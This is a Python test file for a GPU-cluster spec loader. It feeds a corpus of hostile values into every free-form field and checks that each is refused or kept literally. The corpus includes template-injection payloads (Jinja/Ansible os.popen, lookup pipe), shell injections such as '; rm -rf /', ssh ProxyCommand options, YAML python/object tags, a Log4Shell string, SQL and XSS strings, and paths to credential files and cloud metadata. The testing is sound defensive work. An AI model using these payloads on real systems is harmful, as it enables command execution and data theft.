"""A corpus of hostile values planted in every free-form field of a spec.

Each value is written into a valid spec (quoted by yaml.safe_dump, so YAML itself never changes
it) and loaded. The invariant: either the spec is refused with a SpecError whose every problem is
one printable line `<source>:<line>: ...`, one of them on the planted line, or the value is
accepted and comes back literally, byte for byte. Nothing is evaluated: a canary file that a
template, a shell or ssh would create never appears, and an environment canary is never expanded.
A sample also goes through the real command line (`python -m toolkit validate`) in a subprocess.
"""

from __future__ import annotations

import math
import os
import re
import subprocess
import sys
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import yaml

from toolkit.errors import SpecError
from toolkit.spec import ClusterSpec, load_spec_text
from toolkit.spec.models import POSIX_LOGIN, TEMPLATE_MARKERS, VERSION

pytestmark = pytest.mark.unit

REPO = Path(__file__).resolve().parents[2]
SOURCE = "h.yaml"
ENV_CANARY = "GPUCTL_HOSTILE_CANARY"
ENV_CANARY_VALUE = "env-canary-was-expanded"
# Rule 1's control characters: C0/C1 controls and DEL, format characters (zero-width, bidi),
# line/paragraph separators, lone surrogates.
REFUSED_CATEGORIES = {"Cc", "Cf", "Zl", "Zp", "Cs"}
# ECDSA, since Alibaba's ImportKeyPair takes no ed25519 key.
KEY = (Path(__file__).resolve().parents[1] / "providers" / "specs" / "test_ecdsa.pub").read_text()

CLOUD = """\
name: hostile
provider: alicloud
region: cn-wulanchabu
zone: cn-wulanchabu-c
owner: @owner@
node_pools:
  - name: gpu
    instance_type: @instance_type@
    count: 2
    image: @image@
    system_disk: {size_gb: 500, category: @category@}
    billing: {mode: pay_as_you_go}
network:
  fabric: erdma
  mtu: 8500
  admin_cidr: 203.0.113.0/24
ssh:
  public_key: @public_key@
  user: @user@
software:
  driver: @driver@
  cuda: @cuda@
  nccl: @nccl@
  nccl_tests: @nccl_tests@
nccl_overrides:
  NCCL_DEBUG: @nccl_override@
lifecycle:
  ttl: @ttl@
  idle_stop_minutes: 60
tags:
  @tag_key@: llm-pretrain
  project: @tag_value@
"""

LOCAL = """\
name: lab
provider: local
node_pools:
  - name: node
    instance_type: lab
    count: 2
    image: debian_12
    capture: @capture@
network:
  fabric: tcp
  admin_cidr: 127.0.0.0/8
lifecycle:
  ttl: 8h
"""

# The valid value of each placeholder, used for every field that is not being attacked.
VALID = {
    "owner": "infra-team@example.com",
    "instance_type": "ecs.ebmgn7ex.32xlarge",
    "image": "ubuntu_22_04",
    "category": "cloud_essd",
    "public_key": "KEYPATH",
    "user": "ubuntu",
    "driver": "570.133.20",
    "cuda": "12.8",
    "nccl": "2.26.2",
    "nccl_tests": "2.14.1",
    "nccl_override": "WARN",
    "ttl": "8h",
    "tag_key": "team",
    "tag_value": "llm",
    "capture": "captures/h100-roce-node",
}


@dataclass(frozen=True)
class Field:
    placeholder: str
    template: str
    got: Callable[[ClusterSpec], Any]  # the loaded value
    want: Callable[[str], Any] = lambda value: value  # what an accepted value must load as
    negative_numbers: bool = False  # nccl_overrides accepts "-1"


FIELDS: dict[str, Field] = {
    "owner": Field("owner", CLOUD, lambda s: s.owner),
    "node_pools[].instance_type": Field("instance_type", CLOUD, lambda s: s.node_pools[0].instance_type),
    "node_pools[].image": Field("image", CLOUD, lambda s: s.node_pools[0].image),
    "node_pools[].system_disk.category": Field("category", CLOUD, lambda s: s.node_pools[0].system_disk.category),
    "node_pools[].capture": Field("capture", LOCAL, lambda s: s.node_pools[0].capture, Path),
    "ssh.public_key": Field("public_key", CLOUD, lambda s: s.ssh.public_key, Path),
    "ssh.user": Field("user", CLOUD, lambda s: s.ssh.user),
    "software.driver": Field("driver", CLOUD, lambda s: s.software.driver),
    "software.cuda": Field("cuda", CLOUD, lambda s: s.software.cuda),
    "software.nccl": Field("nccl", CLOUD, lambda s: s.software.nccl),
    "software.nccl_tests": Field("nccl_tests", CLOUD, lambda s: s.software.nccl_tests),
    "nccl_overrides value": Field(
        "nccl_override", CLOUD, lambda s: s.nccl_overrides["NCCL_DEBUG"], negative_numbers=True
    ),
    "tags key": Field("tag_key", CLOUD, lambda s: sorted(s.tags), lambda v: sorted([v, "project"])),
    "tags value": Field("tag_value", CLOUD, lambda s: s.tags["project"]),
    "lifecycle.ttl": Field("ttl", CLOUD, lambda s: s.lifecycle.ttl),
}


def quoted(value: str) -> str:
    """`value` as one double-quoted YAML scalar on one line: YAML hands it over unchanged."""
    text = yaml.safe_dump(value, default_style='"', width=math.inf, allow_unicode=False)
    assert text.endswith("\n")
    assert "\n" not in text[:-1]
    return text[:-1]


def spec_text(field: Field, value: str, key_path: Path) -> tuple[str, int]:
    """The template with `value` planted in `field` (others valid); and the planted line."""
    text = field.template
    line = text[: text.index(f"@{field.placeholder}@")].count("\n") + 1
    text = text.replace(f"@{field.placeholder}@", quoted(value))
    for name, valid in VALID.items():
        text = text.replace(f"@{name}@", quoted(str(key_path) if valid == "KEYPATH" else valid))
    return text, line


def hostile_values(canary: Path) -> list[str]:
    c = str(canary)
    env = ENV_CANARY
    templates = [
        "{{ 7*7 }}", "{{7*7}}", f"{{{{ lookup('pipe', 'touch {c}') }}}}", f"{{{{ lookup('env', '{env}') }}}}",
        "{{ ansible_env }}", "{{ hostvars }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        f"{{{{ cycler.__init__.__globals__.os.popen('touch {c}').read() }}}}",
        f"{{% set x = lipsum.__globals__.os.system('touch {c}') %}}", "{% for x in range(99999999) %}x{% endfor %}",
        "{% raw %}", "{%- if true -%}", "{# a comment #}", "{#", "#}", "{{", "}}", "{%", "%}", "x{{y", "x}}y",
        "{{- x -}}", "{%+ x +%}", "${{ secrets.TOKEN }}", "{{{ triple }}}", "{{ x | shell }}",
    ]
    other_templates = ["#{7*7}", "${7*7}", "<%= 7*7 %>", "[[ 7*7 ]]", "@(7*7)", "{0}", "{__import__('os')}",
                       "%s%s%s%n", "%(x)s", "{x!r}"]
    shell = [
        f"$(touch {c})", f"`touch {c}`", f";touch {c}", "; rm -rf /", "; rm -rf ~", f"&& touch {c}",
        f"|| touch {c}", f"| touch {c}", f"> {c}", f">> {c}", f"< {c}", "$((7*7))", f"${{IFS}}touch${{IFS}}{c}",
        f"'$(touch {c})'", f'"; touch {c}; "', f"\\$(touch {c})", "a b c", "~root", "*", "?", "[a-z]*",
        f"$(touch {c})x", f"x$(touch {c})", "${HOME}", "$HOME", f"${{{env}}}", f"${env}", f"%{env}%",
        f"~${{{env}}}", "$'\\x41'", "!!", "!$", "&", "&&", ";", "|", "'", '"', "\\", "\\\\", "a;b", "a|b",
        "a&b", "a`b`", "(x)", "<(x)", ">(x)", "{a,b}", "~+", "$0", "$@", "$*", "$#", "$?", "$$", "$!",
    ]
    options = [
        f"-oProxyCommand=touch {c}", f"-o ProxyCommand=touch {c}", f"-oProxyCommand={c}", "--help",
        "-", "--", "-e", "--version", "-F/dev/null", "-i /tmp/key", "-J evil", "-1", "-0.5", "-1e9",
        "--extra-vars=@/etc/passwd", "-e ansible_python_interpreter=/bin/sh", "-v", "-vvvv", "—em-dash",
        "-x" * 40, "- x", "-\n", "-{{ x }}",
    ]
    controls = [
        "a\nb", "\n", "a\n", "\na", "a\rb", "a\r\nb", "\t", "a\tb", "a\x00b", "\x00", "\x1b[31mred\x1b[0m",
        "\x1b]0;title\x07", "\x1b[2J\x1b[H", "\x1bc", "\x7f", "\x85", "\x9b31m", "\x9d0;t\x9c", "a\u2028b",
        "a\u2029b", "\u2028", "\u202eevil", "\u2066x\u2069", "\u200bx", "\ufeffx", "x\u00ad", "\x08\x08\x08",
        "\x0c", "\x0b", "\x07", "\x01", "\x1f", "a\ud800b", "\udfff", f"\ntouch {c}\n", f"x\n- touch {c}",
        "x\nname: evil", "x\n  injected: true", "x\r\nHost: evil", "NCCL_DEBUG=INFO\nNCCL_P2P_DISABLE=1",
        "\x1b[1;31m{{ x }}", "\u0000\u0001\u0002", "line\u0085next", "\u200e\u200f", "\u2060",
    ]
    yaml_like = [
        f"!!python/object/apply:os.system ['touch {c}']", "!!python/name:os.system", "!!python/object:os.system",
        "!!binary AAAA", "&a [*a]", "*alias", "? x", "- item", "key: value", "{a: 1}", "[1, 2]", "yes", "no",
        "on", "off", "null", "~", "true", "False", "0x1F", "0o17", "1e999", ".nan", ".inf", "---", "...",
        "# comment", "%YAML 1.1", "@at", "|", ">", "<<: *x", "!tag", "1:30", "2024-13-45", "0", "08",
    ]
    long_values = [
        "A" * 65, "A" * 129, "A" * 257, "A" * 1025, "A" * 5000, "A" * 100_000, "9" * 5000, "{" * 1000,
        "-" * 100, "\u00e9" * 300, "\U0001f600" * 100, "a/" * 2100, "." * 300, "x " * 600,
    ]
    unicode_text = [
        "ünïcödé", "中文标签", "emoji \U0001f600", "ｕｂｕｎｔｕ_22_04", "ubuntu_22_04\u0301", "İ", "ß", "\u3000",
        "\U000e0001", "\ufffd", "\uffff", "Ω", "é", "a\u0308",
    ]
    paths_and_urls = [
        "/dev/zero", "/dev/random", "/proc/self/environ", "/etc/shadow", "../../../../etc/passwd", "~/.ssh/id_rsa",
        "C:\\Windows\\System32", "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/",
        "\\\\server\\share", "/", ".", "..", "", " ", "  x  ",
    ]
    injections = [
        "' OR 1=1 --", "Robert'); DROP TABLE students;--", "<script>alert(1)</script>", "\"><img src=x>",
        "${jndi:ldap://evil/a}", "() { :; }; touch /tmp/x", "%0a%0d", "%00", "\\x00", "\\n", "\\u2028",
        "x' || 'y", "../", "a=b c=d", "key=value\nother=1", "NCCL_SOCKET_IFNAME=eth0",
    ]
    values = templates + other_templates + shell + options + controls + yaml_like + long_values
    values += unicode_text + paths_and_urls + injections
    # The same markers, controls and options inside ordinary text, not just on their own.
    values += [f"ok {marker} ok" for marker in TEMPLATE_MARKERS]
    values += [f"ok{char}ok" for char in "\n\r\t\x00\x1b\x7f\x85\u2028\u2029\u202e"]
    return list(dict.fromkeys(values))  # unique, in order


@dataclass
class Tally:
    runs: int = 0
    refused: int = 0
    accepted: int = 0
    accepted_by_field: dict[str, list[str]] = field(default_factory=dict)


def check_one(name: str, value: str, key_path: Path) -> bool:
    """Load `value` planted in field `name`; assert the invariant; True when accepted."""
    spec_field = FIELDS[name]
    text, line = spec_text(spec_field, value, key_path)
    refusal: SpecError | None = None
    try:
        spec = load_spec_text(text, source=SOURCE)
    except SpecError as error:
        refusal = error
    if refusal is not None:
        assert refusal.problems, (name, value)
        for problem in refusal.problems:
            assert re.match(rf"^{re.escape(SOURCE)}:\d+: ", problem), (name, value, problem)
            assert problem.isprintable(), (name, value, problem)  # no raw newline or control character
            assert ENV_CANARY_VALUE not in problem
        assert any(p.startswith(f"{SOURCE}:{line}: ") for p in refusal.problems), (name, value, refusal.problems)
        lines = str(refusal).split("\n")
        assert len(lines) == len(refusal.problems) + (1 if refusal.hint else 0), (name, value)
        return False
    # Accepted: the value comes back literally, and it is none of the things rule 1 refuses.
    assert spec_field.got(spec) == spec_field.want(value), (name, value)
    assert not any(marker in value for marker in TEMPLATE_MARKERS), (name, value)
    assert not any(unicodedata.category(char) in REFUSED_CATEGORIES for char in value), (name, value)
    if value.startswith("-"):
        assert spec_field.negative_numbers, (name, value)
        assert re.fullmatch(r"-[0-9]+(\.[0-9]+)?", value), (name, value)
    assert ENV_CANARY_VALUE not in repr(spec.model_dump())
    return True


@pytest.fixture
def canary(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv(ENV_CANARY, ENV_CANARY_VALUE)
    return tmp_path / "CANARY"


@pytest.fixture
def key_path(tmp_path: Path) -> Path:
    key = tmp_path / "id.pub"
    key.write_text(KEY)
    return key


def test_the_templates_are_valid_with_valid_values(key_path: Path) -> None:
    for name, spec_field in FIELDS.items():
        valid = VALID[spec_field.placeholder]
        assert check_one(name, str(key_path) if valid == "KEYPATH" else valid, key_path), name


def test_every_hostile_value_in_every_free_form_field(canary: Path, key_path: Path) -> None:
    values = hostile_values(canary)
    assert len(values) >= 200
    assert len(FIELDS) == 15
    tally = Tally()
    for name in FIELDS:
        for value in values:
            tally.runs += 1
            if check_one(name, value, key_path):
                tally.accepted += 1
                tally.accepted_by_field.setdefault(name, []).append(value)
            else:
                tally.refused += 1
    assert not canary.exists()
    print(
        f"\nhostile corpus: {len(values)} values x {len(FIELDS)} fields = {tally.runs} loads; "
        f"{tally.refused} refused, {tally.accepted} accepted literally"
    )
    for name, accepted in tally.accepted_by_field.items():
        print(f"  {name}: {len(accepted)} accepted")
    assert tally.runs == len(values) * 15
    # The shaped fields accept only their shapes; the rest accept only text that is plain data.
    assert "lifecycle.ttl" not in tally.accepted_by_field
    for name in ("software.driver", "software.cuda", "software.nccl", "software.nccl_tests"):
        assert all(VERSION.fullmatch(v) for v in tally.accepted_by_field.get(name, [])), name
    assert all(POSIX_LOGIN.fullmatch(v) for v in tally.accepted_by_field["ssh.user"])
    assert f"$(touch {canary})" in tally.accepted_by_field["tags value"]  # data, kept literally


@pytest.mark.parametrize(
    "raw",
    [
        "!!python/object/apply:os.system ['touch CANARY']",
        "!!python/object/new:os.system ['touch CANARY']",
        "!!python/name:os.system",
        "!!python/module:os",
        "{{ lookup('pipe', 'touch CANARY') }}",
        "{% for x in y %}",
        "&a [*a, *a]",
        "*nowhere",
        "!!binary AAAA",
        "!!int abc",
        "!!float xyz",
        "!!timestamp soon",
        "[" * 5000,
        "2024-02-30",
        "'unterminated",
        "`touch CANARY`",
        "@at",
        "% percent",
    ],
)
def test_raw_yaml_tags_and_syntax_in_a_value_are_refused_with_a_line(raw: str, canary: Path) -> None:
    raw = raw.replace("CANARY", str(canary))
    text = CLOUD.replace("@owner@", raw)
    for name, valid in VALID.items():
        text = text.replace(f"@{name}@", quoted(valid))
    with pytest.raises(SpecError) as caught:
        load_spec_text(text, source=SOURCE)
    for problem in caught.value.problems:
        assert re.match(rf"^{re.escape(SOURCE)}:\d+: ", problem), problem
        assert problem.isprintable()
    assert not canary.exists()


def test_a_sample_through_the_real_command_line(canary: Path, key_path: Path, tmp_path: Path) -> None:
    values = hostile_values(canary)
    # About 50 evenly spread (field, value) pairs, each through `python -m toolkit validate`.
    everything = [(name, value) for name in FIELDS for value in values]
    pairs = everything[:: len(everything) // 50]
    assert {name for name, _ in pairs} == set(FIELDS)
    env = {**os.environ, ENV_CANARY: ENV_CANARY_VALUE, "PYTHONPATH": str(REPO)}
    counts = {0: 0, 3: 0, 4: 0}
    for index, (name, value) in enumerate(pairs):
        spec_field = FIELDS[name]
        text, _ = spec_text(spec_field, value, key_path)
        path = tmp_path / f"spec-{index}.yaml"
        path.write_text(text, encoding="utf-8", errors="surrogatepass")
        result = subprocess.run(
            [sys.executable, "-m", "toolkit", "validate", str(path)],
            cwd=tmp_path,
            env=env,
            capture_output=True,
            text=True,
            errors="replace",
            timeout=60,
            check=False,
        )
        assert result.returncode in counts, (name, value, result.returncode, result.stderr)
        counts[result.returncode] += 1
        output = result.stdout + result.stderr
        assert "Traceback" not in output, (name, value, output)
        assert "internal error" not in output, (name, value, output)
        assert ENV_CANARY_VALUE not in output
        for line in result.stderr.splitlines():
            assert line.startswith((str(path), "  hint: ", "warning: ")), (name, value, line)
            assert line.isprintable()
        try:
            load_spec_text(text, source=SOURCE)
        except SpecError:
            assert result.returncode == 3, (name, value, result.stderr)
    assert not canary.exists()
    print(f"\ncommand-line sample: {len(pairs)} runs; exit 0: {counts[0]}, exit 3: {counts[3]}, exit 4: {counts[4]}")
